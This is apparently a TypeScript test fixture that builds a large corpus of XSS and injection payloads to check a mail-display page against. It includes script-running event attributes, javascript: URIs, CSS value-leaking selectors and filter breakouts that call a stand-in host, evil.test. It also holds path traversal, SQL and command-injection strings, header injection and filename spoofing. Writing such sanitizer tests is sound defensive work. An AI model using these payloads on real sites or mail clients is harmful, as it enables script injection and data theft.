/** What every attack tries to reach; the test puts a server there. */
const EVIL = 'http://evil.test';

/** A script that would be noticed by a request, a dialog and a changed title. */
const SCRIPT = `fetch('${EVIL}/x');alert(1);document.title='pwned';top.document.title='pwned'`;

/** Elements that run a script in an event attribute, with what makes the event happen. */
const EVENTS: readonly (readonly [start: string, events: readonly string[]])[] = [
  ['<img src=x', ['onerror', 'onload']],
  ['<svg', ['onload', 'onbegin']],
  ['<body', ['onload', 'onpageshow', 'onfocus', 'onhashchange', 'onresize', 'onscroll', 'onmessage', 'onbeforeunload']],
  ['<video src=x', ['onerror', 'onloadstart', 'oncanplay']],
  ['<audio src=x', ['onerror', 'onloadstart']],
  ['<input autofocus', ['onfocus', 'onblur', 'onfocusin']],
  ['<select autofocus', ['onfocus']],
  ['<textarea autofocus', ['onfocus']],
  ['<details open', ['ontoggle']],
  ['<marquee', ['onstart', 'onfinish', 'onbounce']],
  ['<iframe src=about:blank', ['onload']],
  ['<object data=x', ['onerror', 'onload']],
  ['<embed src=x', ['onload', 'onerror']],
  ['<link rel=stylesheet href=x', ['onerror', 'onload']],
  ['<script src=x', ['onerror', 'onload']],
  ['<style', ['onload', 'onerror']],
  ['<p style="animation:x 1s" ', ['onanimationstart', 'onanimationend']],
  ['<div contenteditable tabindex=1 autofocus', ['onfocus', 'onpointerenter', 'onmouseover', 'onwheel']],
  ['<dialog open', ['onclose', 'oncancel', 'onbeforetoggle']],
  ['<form', ['onsubmit', 'onreset', 'onformdata']],
  ['<keygen autofocus', ['onfocus']],
  ['<track kind=subtitles src=x', ['onerror', 'oncuechange']],
  ['<picture><source srcset=x><img', ['onerror']],
  ['<math><mi', ['onmouseover', 'onfocus']],
];

/** Attributes and elements that load something. */
const LOADS: readonly string[] = [
  ...['img src', 'img srcset', 'video src', 'video poster', 'audio src', 'iframe src', 'frame src', 'embed src'],
  ...['object data', 'input type=image src', 'track src', 'source src', 'body background', 'table background'],
  ...['td background', 'link rel=stylesheet href', 'link rel=icon href', 'link rel=preload as=image href'],
  ...['link rel=prefetch href', 'link rel=dns-prefetch href', 'link rel=preconnect href', 'link rel=manifest href'],
  ...['link rel=modulepreload href', 'link rel=import href', 'script src', 'script type=module src', 'base href'],
  ...['svg><image href', 'svg><image xlink:href', 'svg><use href', 'svg><feImage href', 'bgsound src', 'portal src'],
].map((start) => `<${start}="${EVIL}/load">`);

/** Rules that load something. */
const STYLES: readonly string[] = [
  `background:url(${EVIL}/c)`,
  `background-image:image-set("${EVIL}/c" 1x)`,
  `list-style:url(${EVIL}/c)`,
  `cursor:url(${EVIL}/c),auto`,
  `content:url(${EVIL}/c)`,
  `border-image:url(${EVIL}/c)`,
  `mask:url(${EVIL}/c#m)`,
  `filter:url(${EVIL}/c#f)`,
  `width:expression(${SCRIPT})`,
  `behavior:url(${EVIL}/c)`,
  '-moz-binding:url(javascript:alert(1))',
];

const SHEETS: readonly string[] = [
  `@import "${EVIL}/s";`,
  `@import url(${EVIL}/s);`,
  `@font-face{font-family:x;src:url(${EVIL}/f)}*{font-family:x}`,
  `input[value^="a"]{background:url(${EVIL}/a)}`,
  '*{position:fixed;inset:0;z-index:99999;background:red}',
];

/** Addresses that run a script or leave the page. */
const ADDRESSES: readonly string[] = [
  `javascript:${SCRIPT}`,
  `JaVaScRiPt:${SCRIPT}`,
  `java\tscript:${SCRIPT}`,
  `java&#10;script:${SCRIPT}`,
  `&#106;avascript:${SCRIPT}`,
  `\u0001javascript:${SCRIPT}`,
  `data:text/html,<script>${SCRIPT}</script>`,
  `data:text/html;base64,${btoa(`<script>${SCRIPT}</script>`)}`,
  `vbscript:msgbox(1)`,
  `blob:${EVIL}/x`,
  `${EVIL}/page`,
  `//evil.test/page`,
  '/__mock/reset',
  'file:///etc/passwd',
  'about:blank',
];

const HOLDERS: readonly ((address: string) => string)[] = [
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<a id=auto href="${address}" target=_top>Click</a>`,
  (address) => `<form action="${address}" method=post><button autofocus>Go</button></form>`,
  (address) => `<object data="${address}"></object>`,
];

/** Ways out of a place in which a text may have been written without care. */
const BREAKOUTS: readonly string[] = [
  ...[
    '"><',
    "'><",
    '--><',
    ']]><',
    '</title><',
    '</textarea><',
    '</style><',
    '</script><',
    '</noscript><',
    '</iframe><',
  ],
  ...['</xmp><', '</template><', '</select><', '<!--><', '<![CDATA[<', '`><', '\u0000<', '&lt;', '%3C', '\u2028<'],
].map((start) => `${start}script>${SCRIPT}</script>`);

/** Whole texts that have broken pages, mail programs or filters. */
const OTHERS: readonly string[] = [
  `<script>${SCRIPT}</script>`,
  `<script type=module>${SCRIPT}</script>`,
  `<ScRiPt>${SCRIPT}</sCrIpT>`,
  `<scr<script>ipt>${SCRIPT}</script>`,
  `<frameset><frame src="${EVIL}/load"></frameset>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><animate onbegin="${SCRIPT}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${SCRIPT}"><text y=20>Click</text></a></svg>`,
  `<svg><set attributeName=href to="javascript:${SCRIPT}"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${SCRIPT}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${SCRIPT}">`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<iframe srcdoc="&lt;script&gt;${SCRIPT}&lt;/script&gt;"></iframe>`,
  `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>${SCRIPT}</script>"></iframe>`,
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  '<meta name=referrer content=unsafe-url>',
  `<base href="${EVIL}/"><a href=x>Click</a><script src=x></script>`,
  `<base target=_top><a href="${EVIL}/">Click</a>`,
  `<a href="${EVIL}/" ping="${EVIL}/ping" target=_top>Click</a>`,
  `<a href="${EVIL}/opened" target=_blank rel=opener>Click</a>`,
  `<svg><a href="${EVIL}/opened" target=other rel=opener><text y=20>Click</text></a></svg>`,
  `<map name=m><area href="${EVIL}/opened" target=_blank rel=opener shape=default></map><img usemap=#m width=9 height=9>`,
  `<base target=other><a href="${EVIL}/opened" rel="x opener">Click</a>`,
  `<form action="${EVIL}/opened" target=_blank rel=opener><button autofocus>Go</button></form>`,
  `<button form=f formaction="javascript:${SCRIPT}" autofocus>Go</button><form id=f></form>`,
  `<input type=submit formaction="/__mock/reset" formmethod=post form=g><form id=g method=post></form>`,
  `<template shadowrootmode=open><script>${SCRIPT}</script></template>`,
  `<xss style="x:expression(${SCRIPT})">`,
  `<xml><i><b>&lt;img src=x onerror=${SCRIPT}&gt;</b></i></xml>`,
  '{{constructor.constructor("alert(1)")()}}',
  `\${alert(1)}`,
  '<%= alert(1) %>',
  '#{alert(1)}',
  '__proto__',
  'constructor',
  'toString',
  '{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"x"}}}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'CON',
  'file.html\u202Etxt.exe',
  '\u202Egnp.exe',
  'a\uFEFFb\u200Bc',
  '%00%0d%0aSet-Cookie: a=b',
  "' OR 1=1 --",
  '$(touch x)',
  '| calc',
  '=HYPERLINK("http://evil.test/x","Click")',
  '\u001b]8;;http://evil.test\u0007Click\u001b]8;;\u0007',
  'Ω≈ç√∫˜µ≤≥÷',
  '田中さんにあげて下さい',
  'ﷺ'.repeat(20),
  'Z̴̡͇͚̗͉̫̼͓̰̍'.repeat(10),
  '🏳️‍🌈👩‍👩‍👧‍👦',
  'https://evil.test@trusted.test/',
  'http://evil.test%00.trusted.test/',
];

const ATTACKS: readonly string[] = [
  ...new Set([
    ...EVENTS.flatMap(([start, events]) => events.map((event) => `${start} ${event}="${SCRIPT}">`)),
    ...LOADS,
    ...STYLES.map((style) => `<p style="${style.replaceAll('"', "'")}">x</p>`),
    ...SHEETS.map((sheet) => `<style>${sheet}</style>`),
    ...ADDRESSES.flatMap((address) => HOLDERS.map((hold) => hold(address))),
    ...BREAKOUTS,
    ...OTHERS,
  ]),
];

/** Returns texts of attacks on pages that show mail, each once. They try to reach a server at this origin. */
export function createAttacks(origin: string): string[] {
  return ATTACKS.map((attack) => attack.replaceAll(EVIL, origin).replaceAll('//evil.test/', `${origin.slice(5)}/`));
}
